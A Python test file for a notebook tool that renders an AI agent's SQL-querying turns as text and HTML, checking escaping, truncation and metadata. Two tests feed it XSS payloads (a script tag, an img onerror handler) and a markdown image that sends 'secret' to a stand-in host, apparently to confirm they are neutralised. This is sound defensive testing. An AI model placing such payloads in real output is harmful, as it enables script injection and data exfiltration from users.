"""The saved output of a turn: deterministic text, escaped HTML, bounded tables."""

from __future__ import annotations

import pandas as pd

from relay_nb.agent.loop import TurnResult
from relay_nb.agent.tool_calls import ToolOutcome
from relay_nb.connectors.results import QueryResult
from relay_nb.notebook.view import turn_bundle
from relay_nb.runtime.types import Usage
from relay_nb.views import answer_html, turn_html, turn_text


def make_turn(frame: pd.DataFrame, *, answer: str = "Ann spent the most.") -> TurnResult:
    result = QueryResult(
        df=frame,
        executed_sql="SELECT name, spent FROM customers ORDER BY spent DESC LIMIT 201",
        row_count=len(frame),
        truncated=False,
        elapsed_ms=3.2,
        connector_id="shop",
    )
    failed = ToolOutcome(
        tool_call_id="c1",
        name="query_shop",
        input={"sql": "SELECT nme FROM customers"},
        content="no such column: nme",
        is_error=True,
    )
    ok = ToolOutcome(
        tool_call_id="c2",
        name="query_shop",
        input={"sql": result.executed_sql},
        content="…",
        artifact=result,
        elapsed_ms=4.0,
    )
    return TurnResult(
        answer=answer,
        finish_reason="stop",
        question="who spent the most?",
        turn_id="t-123",
        tool_results=[failed, ok],
        usage=Usage(input_tokens=1200, output_tokens=80, cost_usd=0.0048),
        model="claude-sonnet-4-6",
    )


def test_text_is_deterministic_and_complete() -> None:
    frame = pd.DataFrame({"name": ["Ann", "Bob"], "spent": [120.5, 99.0]})
    assert turn_text(make_turn(frame)) == "\n".join(
        [
            "Q: who spent the most?",
            "[1] query_shop: error",
            "    SELECT nme FROM customers",
            "    no such column: nme",
            "[2] query_shop: 2 rows",
            "    SELECT name, spent FROM customers ORDER BY spent DESC LIMIT 201",
            "    name  spent",
            "     Ann  120.5",
            "     Bob   99.0",
            "A: Ann spent the most.",
            "claude-sonnet-4-6 · 0 calls · 1,200 in / 80 out tokens · $0.0048",
        ]
    )


def test_html_escapes_data_and_question_and_opens_the_last_result() -> None:
    frame = pd.DataFrame({"name": ["<script>alert(1)</script>"], "spent": [1]})
    turn = make_turn(frame).model_copy(update={"question": "<b>who</b>?"})
    page = turn_html(turn)
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    assert "&lt;b&gt;who&lt;/b&gt;?" in page
    # the error a later query made good is folded; that query, what the answer used, is open
    assert "<details><summary>[1] query_shop · error" in page
    assert "<details open><summary>[2] query_shop · 1 row" in page
    failed_last = turn.model_copy(update={"tool_results": turn.tool_results[::-1]})
    assert "<details open><summary>[2] query_shop · error" in turn_html(failed_last)
    assert "[2] query_shop · 2 rows" not in page and "[2] query_shop · 1 row · 4 ms" in page


def test_answers_lose_links_images_and_raw_html() -> None:
    rendered = answer_html(
        "**Ann** ![x](https://evil.example/?q=secret) [more](https://evil.example) "
        "<img src=x onerror=alert(1)> <https://evil.example>"
    )
    assert "<strong>Ann</strong>" in rendered
    assert "<img" not in rendered and "<a " not in rendered and "href" not in rendered


def test_a_million_row_result_renders_only_its_first_rows() -> None:
    frame = pd.DataFrame({"n": range(1_000_000)})
    page = turn_html(make_turn(frame), max_rows=20)
    assert "first 20 of 1,000,000 rows" in page
    assert page.count("<tr") <= 22 and len(page) < 20_000


def test_bundle_metadata_has_accounting_and_no_secrets() -> None:
    frame = pd.DataFrame({"n": [1]})
    data, metadata = turn_bundle(make_turn(frame))
    assert set(data) == {"text/plain", "text/html"}
    assert metadata["relay_nb"] == {
        "turn_id": "t-123",
        "model": "claude-sonnet-4-6",
        "simulated": None,
        "finish_reason": "stop",
        "connectors": ["shop"],
        "input_tokens": 1200,
        "output_tokens": 80,
        "cache_read_tokens": None,
        "cache_write_tokens": None,
        "estimated": False,
        "cost_usd": 0.0048,
    }
